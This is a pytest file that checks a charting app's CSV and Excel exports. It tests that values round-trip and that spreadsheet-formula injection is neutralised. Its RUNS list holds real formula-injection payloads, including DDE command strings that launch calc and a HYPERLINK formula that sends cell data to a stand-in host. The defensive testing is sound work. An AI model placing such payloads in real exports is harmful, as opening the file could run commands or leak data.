"""What is taken away comes back: the same values from CSV and workbook, numbers as numbers, and no text ever runs."""

import io
import zipfile
from datetime import datetime
from math import isclose
from typing import Any

import openpyxl
import pandas as pd
import pytest

from components.charts.result import ChartResult
from components.i18n.cldr import csv_marks
from components.i18n.text import say
from components.layout import chart_results
from components.render import csv_file
from components.render.workbook import workbook
from components.state.selection import Selection
from components.views import CHARTS
from data import Data
from data.pack_records import PackSource
from data.records import Words

RUNS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("https://elsewhere.example?x="&A1,"look")',
    '=WEBSERVICE("https://elsewhere.example")',
    "＝1+1",
    "@ＳＵＭ(1)",
    "fine;=1+1",
    'fine"\n=1+1',
    "=1+1\x00",
)
PLAIN = (
    "https://example.org/a?b=c",
    "a = b",
    "2020-2027",
    "{=1+1}",
    "Nord-Est; Sud",
    "007",
    "1e5",
    "TRUE",
    "Ä, ö",
    'a "b"',
)
STARTS = "=+-@＝＋－＠\t\r\n"


def pictures(data: Data, name: str) -> list[tuple[ChartResult, Selection]]:
    chosen = Selection(tab=name.partition(".")[0])
    wanted = [chosen, chosen.but(lang="it", region="ES51")]
    return [(chart_results.chart_result(name, data, item), item) for item in wanted]


def sheets(picture: ChartResult, chosen: Selection) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(workbook(picture, "Which?", chosen)))


def plain_cell(value: Any) -> Any:
    """A cell as the CSV writes it: days as text, nothing as an empty text, numbers as they are."""
    if value is None or value is pd.NA or value != value:
        return ""
    return value.date().isoformat() if isinstance(value, datetime) else value


def same_values(given: list[Any], wanted: list[Any]) -> bool:
    """Whether two columns hold the same values, numbers to the 15 digits that a spreadsheet keeps."""
    pairs = [(plain_cell(value), plain_cell(other)) for value, other in zip(given, wanted, strict=True)]
    return all(
        isclose(value, other, rel_tol=1e-14) if isinstance(other, float) and value != "" else value == other
        for value, other in pairs
    )


@pytest.mark.parametrize("name", CHARTS)
def test_a_workbook_gives_back_the_rows_and_says_what_they_are(data: Data, name: str) -> None:
    for picture, chosen in pictures(data, name):
        first, about = sheets(picture, chosen)
        head, *body = first.iter_rows(values_only=True)
        added = (
            ["period"]
            if "year" in picture.rows and any(indicator.period for indicator in picture.indicators)
            else []
        )
        assert list(head) == [*picture.rows, *added, "publisher", "licence"]
        wanted = csv_file.rows_with_sources(picture)
        for column, given in zip(wanted, zip(*body, strict=True), strict=bool(body)):
            assert same_values(list(given), wanted[column].tolist()), (name, column)
        told = [value for _, value in about.iter_rows(values_only=True)]
        assert picture.summary in told or not picture.summary
        assert all(note in told for note in picture.notes)
        for source in (citation.source for citation in picture.cited):
            assert any(source.title[chosen.lang] in str(item) for item in told)
        assert [first.title, about.title] == [
            say(f"workbook.{item}", chosen.lang) for item in ("rows", "about")
        ]


@pytest.mark.parametrize("name", CHARTS)
def test_a_csv_gives_back_the_rows(data: Data, name: str) -> None:
    for picture, chosen in pictures(data, name):
        text = csv_file.csv(picture, chosen.lang)
        assert text.startswith(csv_file.BOM), "Excel knows UTF-8 by it"
        separator, decimal = csv_marks(chosen.lang)
        wanted = csv_file.rows_with_sources(picture)
        wanted = wanted.assign(**{column: csv_file.csv_cells(wanted[column]) for column in wanted})
        numeric = [item for item in wanted if pd.api.types.is_numeric_dtype(wanted[item])]
        kinds = {item: str if item not in numeric else wanted[item].dtype for item in wanted}
        read = pd.read_csv(
            io.BytesIO(text.encode()),
            sep=separator,
            decimal=decimal,
            dtype=kinds,
            keep_default_na=False,
            na_values={item: [""] for item in numeric},
        )
        assert list(read) == list(wanted)
        for column in wanted:
            assert same_values(
                read[column].tolist(), list(map(csv_file.inert_text, wanted[column].tolist()))
            ), (
                name,
                column,
            )


@pytest.mark.parametrize("name", CHARTS)
def test_a_row_that_names_its_indicator_has_that_indicator_s_publisher(data: Data, name: str) -> None:
    for picture, _ in pictures(data, name):
        rows = csv_file.rows_with_sources(picture)
        for column in {"indicator", "key"} & set(rows):
            for code, publisher, licence in rows[[column, "publisher", "licence"]].itertuples(index=False):
                indicator = data.indicators.get(str(code))
                if indicator in picture.indicators and indicator is not None:
                    assert (publisher, licence) == (indicator.source.publisher, indicator.source.licence)


@pytest.mark.parametrize("name", CHARTS)
def test_a_whole_number_is_written_without_a_decimal_mark(data: Data, name: str) -> None:
    for picture, chosen in pictures(data, name):
        separator, decimal = csv_marks(chosen.lang)
        text = csv_file.csv(picture, chosen.lang).removeprefix(csv_file.BOM)
        rows = pd.read_csv(io.StringIO(text), sep=separator, dtype=str, keep_default_na=False)
        for column in rows:
            if pd.api.types.is_float_dtype(picture.rows.get(column, pd.Series(dtype=object))):
                cells = [cell for cell in rows[column] if cell]
                ends = [cell.partition(decimal)[2].strip("0") for cell in cells if decimal in cell]
                assert any(ends) or not ends, (name, column)


def hostile_result() -> ChartResult:
    """A picture whose every word is a try."""
    texts = [*RUNS, *PLAIN]
    rows = pd.DataFrame(
        {"label": texts, "value": [-1.5] * len(texts), "=1+1": texts, "standing": "published"}
    )
    source = PackSource(
        publisher="=1+1", title=Words.model_validate({"en": "@SUM(1)", "it": "@SUM(1)"}), licence="+1"
    )
    return ChartResult({}, rows, (source,), summary="=1+1", notes=("-1+1",))


def test_no_cell_of_a_workbook_is_a_formula_or_a_link_and_no_text_is_changed() -> None:
    picture = hostile_result()
    held = workbook(picture, "=1+1?", Selection())
    with zipfile.ZipFile(io.BytesIO(held)) as parts:
        cells = "".join(parts.read(item).decode() for item in parts.namelist() if "worksheets/" in item)
    assert "<f" not in cells
    assert "<hyperlink" not in cells
    first, about = sheets(picture, Selection())
    column = [cell for (cell,) in first.iter_rows(min_row=2, max_col=1)]
    wanted = [item.replace("\x00", "_x0000_") for item in picture.rows["label"]]
    assert [
        openpyxl.utils.escape.unescape(str(item.value)).replace("\x00", "_x0000_").replace("\r", "\n")
        for item in column
    ] == [item.replace("\r", "\n") for item in wanted]
    assert all(cell.quotePrefix for cell in column if str(cell.value).startswith(tuple(STARTS)))
    assert {
        cell.data_type
        for sheet in (first, about)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    } <= {"s", "n"}
    assert [cell.value for (cell,) in first.iter_rows(min_row=2, min_col=2, max_col=2)] == [-1.5] * len(
        picture.rows
    )


def cells_seen(text: str) -> list[str]:
    """What a spreadsheet of any language may take for the cells of a text: parted at line ends, semicolons and tabs."""
    parts = [text]
    for mark in (";", "\t", "\r", "\n"):
        parts = [piece for part in parts for piece in part.split(mark)]
    return parts


def test_no_text_of_a_csv_runs_in_a_spreadsheet_of_any_language() -> None:
    for language, number in (("en", "-1.5"), ("it", "-1,5")):
        separator, _ = csv_marks(language)
        text = io.StringIO(csv_file.csv(hostile_result(), language).removeprefix(csv_file.BOM))
        check(pd.read_csv(text, sep=separator, dtype=str, keep_default_na=False), number)


def check(read: pd.DataFrame, number: str) -> None:
    """Every cell but the numbers is inert."""
    assert set(read["value"]) == {number}
    texts = [*read.columns, *(item for column in read if column != "value" for item in read[column])]
    for text in texts:
        assert not text.startswith(tuple(STARTS)), text
        assert not any(piece.strip().startswith(tuple("=+@＝＋＠")) for piece in cells_seen(text)), text


@pytest.mark.parametrize("text", PLAIN)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert csv_file.inert_text(text) == text
